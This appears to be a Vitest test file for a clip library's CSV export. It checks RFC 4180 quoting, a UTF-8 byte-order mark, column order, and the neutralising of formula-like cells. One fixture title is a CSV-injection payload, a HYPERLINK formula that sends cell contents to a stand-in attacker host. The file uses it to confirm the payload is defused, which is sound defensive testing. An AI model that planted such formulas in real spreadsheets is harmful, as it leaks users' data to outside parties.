// The CSV export read back by a small RFC 4180 reader written here: one row per clip with
// the agreed columns, commas, quotes and line breaks intact, a formula neutralised, UTF-8
// with a byte-order mark, CRLF between rows.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Clip } from '../../../electron/api.ts';
import { exportForDownload, writeExport } from '../../../electron/export/index.ts';
import { exportFixture, type ExportFixture } from './export-library.ts';

/** RFC 4180: fields separated by commas, records by CRLF; a quoted field may hold both, and "" is a quote. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (ch === '"' || ch === '\n' || ch === '\r') {
      throw new Error(`not RFC 4180 at ${i}: ${JSON.stringify(text.slice(Math.max(0, i - 20), i + 20))}`);
    } else {
      field += ch;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length) throw new Error('the last record has no CRLF');
  return rows;
}

describe('CSV export', () => {
  let fx: ExportFixture;
  let clips: Clip[];
  let raw: Buffer;
  const note = 'Line one, with a comma\r\nLine "two" with quotes\nand a bare newline';
  beforeAll(async () => {
    fx = await exportFixture();
    const [a, b, c] = (await fx.handlers.api.listClips({ limit: 3, sort: 'oldest' })).clips;
    await fx.handlers.api.updateClip({ id: a.id, patch: { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")' } });
    await fx.handlers.api.updateClip({ id: b.id, patch: { title: '+1 and @everyone', author: '-Someone' } });
    await fx.handlers.api.updateClip({ id: c.id, patch: { note } });
    await fx.handlers.api.tagClips({ ids: [c.id], tags: ['semi; colon', 'élan 🎉'] });
    const page = await fx.handlers.api.listClips({ limit: 100 });
    clips = await Promise.all(page.clips.map((x) => fx.handlers.api.getClip({ id: x.id })));
    const output = path.join(fx.work, 'clips.csv');
    fs.writeFileSync(output, 'an older export, replaced whole');
    expect(await writeExport(fx.lib, { format: 'csv' }, output)).toEqual({ output, clips: clips.length });
    raw = fs.readFileSync(output);
  });
  afterAll(async () => fx.cleanup());

  it('is UTF-8 with a byte-order mark, the agreed header and one row per clip, newest first', () => {
    expect(raw.subarray(0, 3).toString('hex')).toBe('efbbbf');
    const rows = readCsv(raw.toString('utf8').slice(1));
    expect(rows[0]).toEqual(['id', 'title', 'source', 'author', 'published', 'url', 'tags', 'word count', 'starred', 'note', 'imported']);
    expect(rows).toHaveLength(clips.length + 1);
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(clips.map((c) => c.id));
    for (const r of rows) expect(r).toHaveLength(11);
  });

  it('keeps every value as it is, commas, quotes and line breaks included', () => {
    const rows = readCsv(raw.toString('utf8').slice(1)).slice(1);
    for (const c of clips) {
      const r = rows.find((x) => Number(x[0]) === c.id)!;
      const plain = (v: string) => v.replace(/^'(?=[=+\-@])/, '');
      expect(plain(r[1])).toBe(c.title);
      expect(r[2]).toBe(c.source ?? '');
      expect(plain(r[3])).toBe(c.author ?? '');
      expect(r[4]).toBe(c.publishedAt ?? '');
      expect(r[5]).toBe(c.url ?? '');
      expect(r[6]).toBe(c.tags.map((t) => t.name).join('; '));
      expect(Number(r[7])).toBe(c.wordCount);
      expect(r[8]).toBe(c.starred ? 'yes' : 'no');
      expect(r[9]).toBe(c.note);
      expect(r[10]).toBe(c.importedAt);
    }
    expect(rows.some((r) => r[9] === note)).toBe(true);
    expect(rows.some((r) => r[6] === 'semi; colon; élan 🎉')).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    const rows = readCsv(raw.toString('utf8').slice(1)).slice(1);
    const titles = rows.map((r) => r[1]);
    expect(titles).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(titles).toContain(`'+1 and @everyone`);
    expect(rows.map((r) => r[3])).toContain(`'-Someone`);
    for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('downloads the same bytes', async () => {
    const d = await exportForDownload(fx.lib, { format: 'csv' });
    expect(d.mimeType).toBe('text/csv; charset=utf-8');
    expect(Buffer.from(d.bytes).equals(raw)).toBe(true);
  });
});
